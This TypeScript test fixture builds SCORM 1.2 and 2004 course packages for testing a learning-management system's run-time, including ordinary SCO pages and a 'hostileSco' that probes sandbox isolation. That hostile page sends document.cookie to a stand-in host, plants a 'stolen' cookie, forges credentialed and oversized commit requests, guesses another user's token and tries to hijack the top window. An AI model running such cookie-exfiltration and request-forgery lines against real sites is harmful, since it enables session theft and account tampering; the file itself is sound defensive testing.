import { zipFile, type ZipEntry } from './zip-file.ts';

/* SCORM packages that we wrote ourselves: each SCO finds its run-time as the standard says, and does what the test is about. */

export interface ScoSource {
  readonly id: string;
  readonly href: string;
  readonly mastery?: string;
  /** In the item, as it stands. */
  readonly extra?: string;
  readonly type?: 'sco' | 'asset';
}

export const scormXml = (
  version: '1.2' | '2004',
  scos: readonly ScoSource[],
  { sequencing = '', title = 'Medication orders' } = {},
): string => {
  const isFirst = version === '1.2';
  const [cp, adlcp] = isFirst
    ? ['http://www.imsproject.org/xsd/imscp_rootv1p1p2', 'http://www.adlnet.org/xsd/adlcp_rootv1p2']
    : ['http://www.imsglobal.org/xsd/imscp_v1p1', 'http://www.adlnet.org/xsd/adlcp_v1p3'];
  const mastery = (score: string): string =>
    isFirst
      ? `<adlcp:masteryscore>${score}</adlcp:masteryscore>`
      : `<imsss:sequencing><imsss:objectives><imsss:primaryObjective satisfiedByMeasure="true"><imsss:minNormalizedMeasure>${score}</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives></imsss:sequencing>`;
  const items = scos.map(
    ({ id, mastery: score, extra = '' }) =>
      `<item identifier="${id}" identifierref="R-${id}"><title>${id}</title>${score === undefined ? '' : mastery(score)}${extra}</item>`,
  );
  const resources = scos.map(
    ({ id, href, type = 'sco' }) =>
      `<resource identifier="R-${id}" type="webcontent" adlcp:${isFirst ? 'scormtype' : 'scormType'}="${type}" href="${href}"><file href="${href}"/></resource>`,
  );
  return `<?xml version="1.0"?>
<manifest identifier="MEDS" version="1" xmlns="${cp}" xmlns:adlcp="${adlcp}" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schema>ADL SCORM</schema><schemaversion>${isFirst ? '1.2' : '2004 4th Edition'}</schemaversion></metadata>
  <organizations default="ORG"><organization identifier="ORG"><title>${title}</title>
    ${items.join('\n    ')}
    ${sequencing}
  </organization></organizations>
  <resources>${resources.join('')}</resources>
</manifest>`;
};

export const scormZip = (
  version: '1.2' | '2004',
  scos: readonly ScoSource[],
  files: readonly ZipEntry[],
  more: { sequencing?: string; title?: string } = {},
): Buffer => zipFile([{ path: 'imsmanifest.xml', content: scormXml(version, scos, more) }, ...files]);

/** Finds the run-time (SCORM 1.2 RTE 3.3.6, SCORM 2004 RTE 3.3): up the parents, then the opener. */
const finder = `function findApi(name) { let at = window; for (let i = 0; i < 8 && !at[name] && at.parent !== at; i++) at = at.parent; return at[name] || (window.opener && window.opener[name]); }`;

const page = (body: string, script: string): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>SCO</title><script>${finder}</script></head><body>${body}<script>${script}</script></body></html>`;

/** A SCO of SCORM 1.2 with a page to turn, an answer to give, and a way to stop. */
export const firstSco = page(
  `<h1>Medication orders</h1><p id="state">…</p><button id="turn">Turn the page</button><button id="pass">Answer rightly</button><button id="fail">Answer wrongly</button><button id="stop">Stop here</button>`,
  `const api = findApi('API');
const show = (text) => { document.getElementById('state').textContent = text; };
api.LMSInitialize('');
const at = () => api.LMSGetValue('cmi.core.lesson_location') || '1';
show([api.LMSGetValue('cmi.core.entry') || 'again', 'page ' + at(), api.LMSGetValue('cmi.suspend_data') || 'nothing kept', api.LMSGetValue('cmi.core.student_name')].join(', '));
let done = false;
const finish = () => { if (!done) { done = true; api.LMSSetValue('cmi.core.session_time', '00:01:30'); api.LMSFinish(''); } };
document.getElementById('turn').onclick = () => {
  api.LMSSetValue('cmi.core.lesson_location', String(Number(at()) + 1)); api.LMSSetValue('cmi.suspend_data', 'seen=' + at());
  api.LMSSetValue('cmi.core.lesson_status', 'incomplete'); api.LMSSetValue('cmi.core.exit', 'suspend');
  show('page ' + at() + ' ' + api.LMSCommit(''));
};
const answer = (raw) => { api.LMSSetValue('cmi.interactions.0.id', 'q1'); api.LMSSetValue('cmi.interactions.0.result', raw > 50 ? 'correct' : 'wrong');
  api.LMSSetValue('cmi.core.score.raw', String(raw)); api.LMSSetValue('cmi.core.exit', ''); api.LMSSetValue('cmi.core.lesson_status', raw > 50 ? 'passed' : 'failed'); finish(); show('finished ' + raw); };
document.getElementById('pass').onclick = () => answer(90);
document.getElementById('fail').onclick = () => answer(20);
document.getElementById('stop').onclick = () => { finish(); show('stopped'); };
window.onunload = finish;`,
);

/** A SCO of SCORM 2004 that passes at once and asks for the next. */
export const secondSco = page(
  `<h1>Second edition</h1><p id="state">…</p><button id="go">Pass and go on</button>`,
  `const api = findApi('API_1484_11');
api.Initialize('');
const had = api.GetValue('cmi.objectives._count');
document.getElementById('state').textContent = [api.GetValue('cmi.entry'), api.GetValue('cmi.mode'), api.GetValue('cmi.launch_data') || 'no data', had].join(', ');
document.getElementById('go').onclick = () => {
  const said = [['cmi.objectives.0.id', 'dose'], ['cmi.objectives.0.success_status', 'passed'], ['cmi.score.scaled', '0.9'], ['cmi.completion_status', 'completed'], ['cmi.success_status', 'passed'],
    ['cmi.session_time', 'PT2M'], ['adl.nav.request', 'continue']].map(([at, to]) => api.SetValue(at, to));
  document.getElementById('state').textContent = said.join(' ') + ' ' + api.Terminate('');
};`,
);

/** A frameset: the run-time is three parents up. */
export const framesetSco: readonly ZipEntry[] = [
  {
    path: 'set.html',
    content:
      '<!doctype html><html><head><title>Set</title></head><frameset cols="30%,70%"><frame src="side.html"><frame name="main" src="main.html"></frameset></html>',
  },
  { path: 'side.html', content: '<!doctype html><title>Side</title><p>Contents</p>' },
  {
    path: 'main.html',
    content: page(
      '<p id="state">…</p>',
      `const api = findApi('API'); const said = [api.LMSInitialize(''), api.LMSSetValue('cmi.core.lesson_status', 'completed'), api.LMSFinish('')];
document.getElementById('state').textContent = said.join(' ') + ' in a set of ' + parent.frames.length;`,
    ),
  },
];

/** Tries everything that it should not be able to do, and says what came of it. `app`: our own origin. */
export const hostileSco = (app: string): string =>
  page(
    `<p id="state">…</p><button id="away">Run away</button><form id="form" method="post" action="${app}/api/session" target="_self"></form>`,
    `const api = findApi('API'); const said = [];
const put = (name, value) => said.push(name + '=' + value);
document.getElementById('away').onclick = () => { document.getElementById('form').submit(); parent.location.href = 'https://elsewhere.example/?' + document.cookie; };
(async () => {
  api.LMSInitialize('');
  put('garbage', api.LMSSetValue('cmi.core.score.raw', 'lots') + api.LMSSetValue('cmi.core.student_id', 'SOMEBODY') + api.LMSSetValue('no.such.thing', 'x') + api.LMSSetValue(null, {}));
  put('large', api.LMSSetValue('cmi.suspend_data', 'x'.repeat(5 * 1024 * 1024)));
  put('cookie', document.cookie);
  document.cookie = 'atelbow=stolen; path=/';
  for (const [name, address] of [['api', '${app}/api/session'], ['elsewhere', 'https://elsewhere.example/']])
    put(name, await fetch(address, { credentials: 'include' }).then((reply) => 'reached ' + reply.status, () => 'blocked'));
  put('forged', await fetch('../commit', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"sequence":1,"finished":true,"cmi":{"suspend_data":"' + 'x'.repeat(70000) + '"}}' }).then((reply) => reply.status));
  put('flood', await fetch('../commit', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"cmi":"' + 'x'.repeat(5 * 1024 * 1024) + '"}' }).then((reply) => reply.status, () => 'cut off'));
  put('other', await fetch('../../' + 'guessed-token-of-somebody' + '/commit', { method: 'POST' }).then((reply) => reply.status));
  put('image', await new Promise((done) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => done('blocked'); image.src = '${app}/favicon.svg'; }));
  put('window', window.open('${app}/accounts') ? 'opened' : 'blocked');
  let top = 'blocked'; try { window.top.location.href = 'https://elsewhere.example/'; top = 'tried'; } catch { } put('top', top);
  try { put('app', window.top.document.title); } catch { put('app', 'blocked'); }
  put('worker', await (navigator.serviceWorker ? navigator.serviceWorker.register('worker.js').then(() => 'installed', () => 'blocked') : 'none'));
  document.getElementById('state').textContent = said.join('; ');
})();`,
  );
